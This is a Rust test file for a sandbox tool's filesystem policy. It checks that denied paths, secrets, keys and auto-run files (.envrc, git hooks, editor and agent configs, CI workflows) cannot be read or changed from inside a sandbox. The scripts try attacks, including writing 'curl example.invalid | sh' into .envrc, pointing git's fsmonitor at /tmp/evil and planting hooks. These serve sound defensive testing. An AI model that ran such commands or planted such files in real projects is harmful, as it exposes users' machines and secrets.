@@ -1,0 +1,365 @@
+//! Per-path filesystem policy inside the writable roots (issue 34, DESIGN 10): a
+//! profile's `[filesystem] deny_read` / `deny_write`, the built-in list of what runs on a
+//! person's machine when the project is opened (read-only unless `allow_write` names it),
+//! and the gate that flags a branch changing one. Each attack is attempted from inside a
+//! sandbox started by `git loop run`, with its twin, and the host checked afterwards. The
+//! peers' per-path scenarios (sandbox-runtime's `denyWrite`/`denyRead` and mandatory deny
+//! list, codex's protected `.git` and `.codex`) are replayed as ordinary tests here.
+
+use std::fs;
+use std::path::Path;
+
+use crate::common::{Run, TestEnv};
+
+/// Writes the workspace's `default` sandbox profile (the loop's profile).
+fn write_profile(env: &TestEnv, body: &str) {
+    let path = env
+        .ws
+        .join("context/knowledge/.loopat/sandboxes/default/sandbox.toml");
+    fs::create_dir_all(path.parent().unwrap()).unwrap();
+    fs::write(path, body).unwrap();
+}
+
+/// A repository with `files` committed, and a loop on it.
+fn setup(files: &[(&str, &str)]) -> (TestEnv, std::path::PathBuf, String) {
+    let env = TestEnv::new();
+    let repo = env.repo("app");
+    for (rel, text) in files {
+        env.commit_file(&repo, rel, text, &format!("add {rel}"));
+    }
+    let id = env.new_loop(&repo, "fs policy");
+    (env, repo, id)
+}
+
+/// Runs `script` with `sh -c` inside; prints one `OK label` or `REFUSED label: why` per
+/// attempt made with `try LABEL COMMAND...`.
+fn attempts(env: &TestEnv, id: &str, script: &str) -> Run {
+    let full = format!(
+        "try() {{ l=$1; shift; if err=$(\"$@\" 2>&1 >/dev/null); then echo \"OK $l\"; else echo \"REFUSED $l: $err\"; fi; }}\n{script}"
+    );
+    env.run(["run", "-q", id, "--net", "none", "--", "sh", "-c", &full])
+        .ok()
+}
+
+#[track_caller]
+fn verdicts(run: &Run, expected: &[(&str, bool)]) {
+    for (label, allowed) in expected {
+        let line = run
+            .stdout
+            .lines()
+            .find(|l| {
+                l.split(':')
+                    .next()
+                    .unwrap_or("")
+                    .ends_with(&format!(" {label}"))
+            })
+            .unwrap_or_else(|| panic!("no verdict for {label}:\n{}", run.stdout));
+        let ok = line.starts_with("OK ");
+        assert_eq!(ok, *allowed, "{label}: {line}\n{}", run.stdout);
+    }
+}
+
+/// The twin commits what it may: a tracked path denied reading is unreadable to git too,
+/// so `git add -A` inside stops at it, and the work is added by name.
+#[test]
+fn a_denied_file_cannot_be_written_or_read_while_its_neighbours_can() {
+    let (env, repo, id) = setup(&[
+        ("config/prod.toml", "prod\n"),
+        ("config/dev.toml", "dev\n"),
+        ("secrets/token", "s3cret\n"),
+        ("src/main.rs", "fn main() {}\n"),
+        ("src/signing.key", "KEY\n"),
+    ]);
+    write_profile(
+        &env,
+        "[filesystem]\ndeny_read = [\"secrets/\", \"**/*.key\"]\ndeny_write = [\"config/prod.toml\"]\n",
+    );
+    let run = attempts(
+        &env,
+        &id,
+        r#"
+try read-secret cat secrets/token
+try list-secrets sh -c 'ls -A secrets | grep -q token'
+try read-key cat src/signing.key
+try write-key sh -c 'echo x > src/signing.key'
+try write-prod sh -c 'echo x > config/prod.toml'
+try remove-prod rm config/prod.toml
+try move-prod mv config/prod.toml config/moved.toml
+try read-prod cat config/prod.toml
+try write-dev sh -c 'echo more >> config/dev.toml'
+try read-main cat src/main.rs
+try new-file sh -c 'echo new > src/lib.rs'
+try commit sh -c 'git add src/lib.rs config/dev.toml && git commit -q -m work'
+"#,
+    );
+    verdicts(
+        &run,
+        &[
+            ("read-secret", false),
+            ("list-secrets", false),
+            ("read-key", false),
+            ("write-key", false),
+            ("write-prod", false),
+            ("remove-prod", false),
+            ("move-prod", false),
+            ("read-prod", true),
+            ("write-dev", true),
+            ("read-main", true),
+            ("new-file", true),
+            ("commit", true),
+        ],
+    );
+    let work = env.workdir(&id);
+    assert_eq!(
+        fs::read_to_string(work.join("config/prod.toml")).unwrap(),
+        "prod\n"
+    );
+    assert_eq!(
+        fs::read_to_string(work.join("secrets/token")).unwrap(),
+        "s3cret\n"
+    );
+    assert_eq!(
+        fs::read_to_string(work.join("config/dev.toml")).unwrap(),
+        "dev\nmore\n"
+    );
+    // What covers what is shown, with its rule.
+    let mounts = env.run(["show", &id, "--mounts"]).ok();
+    let inside = format!("/loopat/loop/{id}/workdir");
+    for (path, rule) in [
+        ("secrets", "hidden (deny_read: secrets/)"),
+        ("config/prod.toml", "(deny_write: config/prod.toml)"),
+        ("src/signing.key", "hidden (deny_read: **/*.key)"),
+    ] {
+        let line = mounts
+            .stdout
+            .lines()
+            .find(|l| l.contains(&format!("{inside}/{path} ")))
+            .unwrap_or_else(|| panic!("{path} is not listed:\n{}", mounts.stdout));
+        assert!(line.contains(rule), "{line}");
+    }
+    let json = env.run(["show", &id, "--mounts", "--json"]).ok().stdout;
+    assert!(
+        json.contains(&format!("{inside}/config/prod.toml")),
+        "{json}"
+    );
+    assert!(json.contains("deny_write: config/prod.toml"), "{json}");
+    assert!(repo.join(".git").is_dir());
+}
+
+#[test]
+fn vscode_settings_are_read_only_by_default_and_writable_with_the_profiles_word() {
+    let (env, _repo, id) = setup(&[(".vscode/settings.json", "{}\n"), ("README", "hi\n")]);
+    let script = r#"
+try settings sh -c 'echo "{\"x\": 1}" > .vscode/settings.json'
+try tasks sh -c 'echo "{}" > .vscode/tasks.json'
+try readme sh -c 'echo more >> README'
+"#;
+    let run = attempts(
+        &env,
+        &id,
+        &format!(
+            "{script}
+try claude-new sh -c 'mkdir -p .claude/commands && echo x > .claude/commands/evil.md'
+try claude-rename mv .claude c2
+try workflows-new sh -c 'mkdir -p .github/workflows && echo x > .github/workflows/x.yml'
+try github-rename mv .github g2
+try codeowners-new sh -c 'echo x > .github/CODEOWNERS'
+try status sh -c 'test -z \"$(git status --porcelain -- .claude .github/workflows .idea .codex .husky)\"'
+"
+        ),
+    );
+    verdicts(
+        &run,
+        &[
+            ("settings", false),
+            ("tasks", false),
+            ("readme", true),
+            // Folders of the list that were not there: made empty, read-only, their
+            // holders pinned; git sees nothing of them.
+            ("claude-new", false),
+            ("claude-rename", false),
+            ("workflows-new", false),
+            ("github-rename", false),
+            ("codeowners-new", true),
+            ("status", true),
+        ],
+    );
+    assert!(!env.workdir(&id).join(".claude/commands/evil.md").exists());
+    assert!(!env.workdir(&id).join(".github/workflows/x.yml").exists());
+    let settings = env.workdir(&id).join(".vscode/settings.json");
+    assert_eq!(fs::read_to_string(&settings).unwrap(), "{}\n");
+    assert!(!env.workdir(&id).join(".vscode/tasks.json").exists());
+
+    write_profile(&env, "[filesystem]\nallow_write = [\".vscode/\"]\n");
+    let run = attempts(&env, &id, script);
+    verdicts(
+        &run,
+        &[("settings", true), ("tasks", true), ("readme", true)],
+    );
+    assert_eq!(fs::read_to_string(&settings).unwrap(), "{\"x\": 1}\n");
+}
+
+#[test]
+fn a_branch_changing_what_runs_when_the_project_is_opened_is_flagged_and_merged_only_when_named() {
+    let (env, repo, id) = setup(&[(".vscode/settings.json", "{}\n")]);
+    write_profile(&env, "[filesystem]\nallow_write = [\".vscode/\"]\n");
+    // .envrc did not exist when the run started: no mount covers it (until names are
+    // refused at creation time), and the gate is what stops it.
+    attempts(
+        &env,
+        &id,
+        r#"
+echo '{"terminal.integrated.shell.linux": "/tmp/x"}' > .vscode/settings.json
+echo 'curl example.invalid | sh' > .envrc
+echo ok > notes.txt
+git add -A && git commit -q -m tweak
+"#,
+    );
+    let review = env.run(["review", &id]).ok();
+    review
+        .stdout_has("policy   .envrc  runs when the project is opened or built, added")
+        .stdout_has(
+            "policy   .vscode/settings.json  runs when the project is opened or built, changed",
+        );
+    assert!(
+        !review.stdout.contains("policy   notes.txt"),
+        "{}",
+        review.stdout
+    );
+    let main_before = env.rev(&repo, "main");
+    env.run(["merge", &id])
+        .fails(1)
+        .stderr_has("not accepted")
+        .stderr_has(&format!(
+            "git loop merge {id} --accept-policy .envrc --accept-policy .vscode/settings.json"
+        ));
+    assert_eq!(env.rev(&repo, "main"), main_before);
+    env.run([
+        "merge",
+        &id,
+        "--accept-policy",
+        ".envrc",
+        "--accept-policy",
+        ".vscode/settings.json",
+    ])
+    .ok();
+    assert!(repo.join(".envrc").exists());
+}
+
+/// sandbox-runtime's `denyWrite`/`denyRead` inside an allowed root, its mandatory deny
+/// list, and codex's protected paths (`.git` config and hooks, `.codex`), as they play
+/// here: each path refused, its neighbour allowed.
+#[test]
+fn the_peers_per_path_scenarios_hold() {
+    let (env, _repo, id) = setup(&[
+        (".bashrc", "alias ls=rm\n"),
+        (".gitmodules", "\n"),
+        (".mcp.json", "{}\n"),
+        (".idea/workspace.xml", "<x/>\n"),
+        (".codex/config.toml", "model = \"x\"\n"),
+        (".claude/commands/go.md", "go\n"),
+        (".claude/settings.json", "{}\n"),
+        (".github/workflows/ci.yml", "on: push\n"),
+        (".github/CODEOWNERS", "* @a\n"),
+        (".husky/pre-commit", "true\n"),
+        (".pre-commit-config.yaml", "repos: []\n"),
+        ("build/out.txt", "o\n"),
+        ("private/a.txt", "a\n"),
+        ("src/ok.txt", "ok\n"),
+    ]);
+    write_profile(
+        &env,
+        "[filesystem]\ndeny_write = [\"build\"]\ndeny_read = [\"private\"]\n",
+    );
+    let run = attempts(
+        &env,
+        &id,
+        r#"
+try srt-denywrite-create sh -c 'echo x > build/new.txt'
+try srt-denywrite-modify sh -c 'echo x >> build/out.txt'
+try srt-denywrite-read cat build/out.txt
+try srt-denyread-read cat private/a.txt
+try srt-denyread-write sh -c 'echo x > private/b.txt'
+try srt-allowed-neighbour sh -c 'echo x >> src/ok.txt'
+try srt-bashrc sh -c 'echo x >> .bashrc'
+try srt-gitmodules sh -c 'echo x >> .gitmodules'
+try srt-mcp sh -c 'echo x >> .mcp.json'
+try srt-idea sh -c 'echo x > .idea/new.xml'
+try srt-claude-commands sh -c 'echo x > .claude/commands/evil.md'
+try srt-claude-settings sh -c 'echo x >> .claude/settings.json'
+try srt-git-config git config core.fsmonitor /tmp/evil
+try srt-git-hooks sh -c 'echo x > .git/hooks/pre-commit'
+try codex-dot-codex sh -c 'echo x >> .codex/config.toml'
+try codex-git-commit sh -c 'git add src && git commit -q -m ok'
+try workflows sh -c 'echo x >> .github/workflows/ci.yml'
+try codeowners sh -c 'echo x >> .github/CODEOWNERS'
+try husky sh -c 'echo x > .husky/pre-push'
+try pre-commit sh -c 'echo x >> .pre-commit-config.yaml'
+try rename-away mv .github/workflows .github/w2
+try rename-parent mv .github g2
+try vscode-new sh -c 'mkdir -p .vscode && echo x > .vscode/tasks.json'
+try envrc-new sh -c 'echo x > .envrc'
+"#,
+    );
+    verdicts(
+        &run,
+        &[
+            ("srt-denywrite-create", false),
+            ("srt-denywrite-modify", false),
+            ("srt-denywrite-read", true),
+            ("srt-denyread-read", false),
+            ("srt-denyread-write", false),
+            ("srt-allowed-neighbour", true),
+            ("srt-bashrc", false),
+            ("srt-gitmodules", false),
+            ("srt-mcp", false),
+            ("srt-idea", false),
+            ("srt-claude-commands", false),
+            ("srt-claude-settings", true),
+            ("srt-git-config", false),
+            ("srt-git-hooks", false),
+            ("codex-dot-codex", false),
+            ("codex-git-commit", true),
+            ("workflows", false),
+            ("codeowners", true),
+            ("husky", false),
+            ("pre-commit", false),
+            ("rename-away", false),
+            ("rename-parent", false),
+            // A folder of the list that is not there: an empty read-only one stands in.
+            ("vscode-new", false),
+            // A file of the list that is not there can be made (no creation-time
+            // denial yet): the gate stops it on the way out (see the test above).
+            ("envrc-new", true),
+        ],
+    );
+    let work = env.workdir(&id);
+    assert_eq!(
+        fs::read_to_string(work.join(".bashrc")).unwrap(),
+        "alias ls=rm\n"
+    );
+    assert!(!work.join("build/new.txt").exists());
+    assert!(!work.join(".claude/commands/evil.md").exists());
+    assert!(Path::new(&work.join(".github/workflows/ci.yml")).exists());
+    assert!(!work.join(".vscode/tasks.json").exists());
+}
+
+/// What this backend cannot enforce is refused, never weakened: names refused at creation
+/// time, and any `[filesystem]` rule without a sandbox.
+#[test]
+fn a_profile_asking_what_the_backend_cannot_enforce_is_refused() {
+    let (env, _repo, id) = setup(&[]);
+    write_profile(&env, "[filesystem]\ndeny_create = [\"*.pem\"]\n");
+    env.run(["run", &id, "--", "true"])
+        .fails(3)
+        .stderr_has("deny_create")
+        .stderr_has("does not enforce");
+    write_profile(&env, "[filesystem]\ndeny_write = [\"src\"]\n");
+    env.run(["run", &id, "--backend", "none", "--", "true"])
+        .fails(3)
+        .stderr_has("[filesystem]");
+    write_profile(&env, "[filesystem]\ndeny_read = [\"../outside\"]\n");
+    env.run(["run", &id, "--", "true"])
+        .fails(1)
+        .stderr_has("climbs out");
+}
